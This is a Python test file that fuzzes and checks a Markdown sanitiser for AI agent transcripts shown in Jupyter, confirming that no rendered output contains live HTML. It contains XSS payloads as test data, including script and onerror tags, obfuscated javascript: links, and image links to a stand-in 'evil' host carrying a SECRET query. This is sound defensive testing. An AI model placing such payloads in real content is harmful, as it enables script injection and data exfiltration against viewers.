"""What an agent says becomes live HTML in no viewer, however its Markdown is twisted."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from agor_jupyter.magics.fold import Fold
from agor_jupyter.transcripts.markdown import prose

SEED = 20261125
TEXTS = 6_000
TOKENS = (
    "```", "~~~", "````", "`", "``", "```py", "~~~ `", " ", "    ", "\n", "\n", "\n\n", "\t", "> ", "- ",
    "1. ", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "![x](http://e/)", "\\![x](http://e/)",
    "\\\\![x](http://e/)",
    "[x](", "\\", "$$", "$", "\\(", "\\[", "<code>", "</code>", "<!--", "-->", "<", "|",
    "# ", "a", "\u2028", "\r", "<details>", "\n---\n", "[^1]: ", "[x]: ", "\u00a0", "&lt;", "<![CDATA[",
    "javascript:alert(1)", ")", "[x](javascript:alert(1))", "<javascript:alert(1)>", "&#58;",
    "](javascript:alert(1))",     "data:text/html,x",
)  # fmt: skip


class Live(HTMLParser):
    """Collects what could act by itself, or on a click."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            scheme = (value or "").strip().lower().partition(":")[0]
            if name.startswith("on") or (name in ("href", "src") and scheme in ("javascript", "vbscript")):
                self.found.append(f"{tag} {name}={value}")
        if tag in ("script", "img", "iframe", "object"):
            self.found.append(tag)


def live(page: str) -> list[str]:
    parser = Live()
    parser.feed(page)
    return parser.found


def by_markdown_it(text: str) -> str:
    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    # It guards links itself; other parsers do not, and they are whom we write for.
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # a setting of this parser
    return str(parser.render(text))


def by_nbconvert(text: str) -> str:
    return str(MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(text))


PARSERS = (by_markdown_it, by_nbconvert)


def twisted() -> Iterator[str]:
    chance = random.Random(SEED)
    for _ in range(TEXTS):
        yield "".join(chance.choice(TOKENS) for _ in range(chance.randint(3, 14)))


@pytest.mark.parametrize("parser", PARSERS)
def test_no_twisted_text_is_live(parser: Callable[[str], str]) -> None:
    for text in twisted():
        found = live(parser(prose(text)))
        assert not found, (text, found)


FENCE = "~~~ `\n```\n~~~\n<img src=x onerror=alert(1)>\n```\n"


@pytest.mark.parametrize(
    "text",
    [
        FENCE,
        "\\\\![x](http://evil/?d=SECRET)",
        "![x](http://evil/?d=SECRET)",
        "[x](javascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]\n\n[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ],
)
@pytest.mark.parametrize("parser", PARSERS)
def test_a_known_trick_is_dead(text: str, parser: Callable[[str], str]) -> None:
    assert live(parser(text)), "the trick does not work any more: find another"
    assert not live(parser(prose(text)))


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://example.org/a?b=c:d)",
        "[file](stats/summary.py#L3)",
        "[x]: https://example.org",
        "a[1](b)",
    ],
)
def test_a_link_to_a_page_stays(text: str) -> None:
    assert prose(text) == text


def test_a_cells_display_is_dead_too() -> None:
    fold = Fold("ses", "task")
    said = {"type": "agent_message_chunk", "message_id": "m", "text": FENCE}
    called = {"type": "tool_call", "tool_call_id": "t", "title": "![x](http://evil/)", "kind": "other"}
    for seq, update in enumerate((said, called), start=1):
        fold.feed({"seq": seq, "task_id": "task", "update": update})
    for parser in PARSERS:
        assert not live(parser(fold.bundle()["text/markdown"]))
